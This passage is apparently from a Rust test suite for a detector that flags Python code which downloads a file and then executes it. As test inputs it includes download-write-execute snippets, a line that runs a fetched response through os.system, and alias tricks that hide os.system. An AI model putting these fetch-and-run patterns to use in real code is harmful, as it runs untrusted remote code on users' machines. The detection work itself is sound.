        );
        let joined = "r = requests.get(U).text\nos.system(str(r) + str(x))\n";
        assert_eq!(flow(joined), None);
        // Decoy aliases of names the check does not read cannot push out the one it does.
        let mut decoys = String::new();
        for i in 0..400 {
            decoys.push_str(&format!("from os import path as A{i}\n"));
        }
        decoys.push_str("from os import system as a\nr = requests.get(U)\nopen(p, 'wb').write(r.content)\na(p)\n");
        assert!(matches!(
            flow(&decoys).map(|f| f.ran),
            Some(Ran::Download { .. })
        ));
        // Aliases in bracketed multi-line imports and in comma lists.
        let facts = file_facts(
            b"from os import (\n    path,\n    system as _s,\n)\nimport json, subprocess as sp\n",
            &[],
        );
        assert_eq!(
            facts.unaliased("_s(c); sp.run(c)"),
            "os.system(c); subprocess.run(c)"
        );
        // An alias is replaced as a name, never inside another name or after a dot.
        let facts = file_facts(b"import subprocess as sp\n", &[]);
        assert_eq!(
            facts.unaliased("sp.run(x); wsp.run(y); a.sp.run(z)"),
            "subprocess.run(x); wsp.run(y); a.sp.run(z)"
        );
    }

    #[test]
    fn hostile_lines_cost_linear_time() {
        // One long line of unclosed calls and repeated runner names.
        let mut source = String::from(
            "def runcommand(v):\n    os.system(v)\n\ndef f():\n    r = requests.get(U).text\n    ",
        );
        source.push_str(&"open(".repeat(200_000));
        source.push('\n');
        source.push_str("    ");
        source.push_str(&"runcommandX runcommand ".repeat(50_000));
        source.push('\n');
        assert_eq!(flow(&source), None);
    }

    #[test]
    fn a_generated_scope_is_read_within_bounds() {
        // Thousands of responses bound in one function, an unclosed bracket at the end:
        // the check stays linear and still sees the dropper at the top.
        let mut source = String::from(
            "def f():\n    r = requests.get(U)\n    open(p, 'wb').write(r.content)\n    os.startfile(p)\n",
        );
        for i in 0..30_000 {
            source.push_str(&format!("    r{i} = requests.get(U{i})\n"));
        }
        source.push_str("    x = (\n");
        assert_eq!(flow(&source).map(|f| f.run_line), Some(4));
    }

    #[test]
    fn an_unrelated_program_or_an_unfetched_file_is_not_a_dropper() {
        for source in [
            // The download is unpacked by tar: tar runs, not the download.
            "def get():\n    r = requests.get(U)\n    open(p, 'wb').write(r.content)\n    subprocess.run(['tar', 'xf', p])\n",
            // A helper script is written from a literal and started (youtube-dl's updater).
            "def update():\n    data = urlopen(U).read()\n    open(exe, 'wb').write(data)\n    open(bat, 'w').write('copy ...')\n    subprocess.Popen([bat])\n",
            // Run before it was written.
            "def f():\n    subprocess.run([p])\n    r = requests.get(U)\n    open(p, 'wb').write(r.content)\n",
            // Read mode.
            "def f():\n    r = requests.get(U)\n    d = open(p, 'rb').read()\n    subprocess.run([p])\n",
            // Fetch in one function, run in another.
            "def a():\n    r = requests.get(U)\n    open(p, 'wb').write(r.content)\n\ndef b():\n    subprocess.run([p])\n",
        ] {
            let ran = flow(source).map(|f| f.ran);
            assert!(
                matches!(ran, None | Some(Ran::WrittenScript { .. })),
                "{source}: {ran:?}"
            );
        }
    }
}
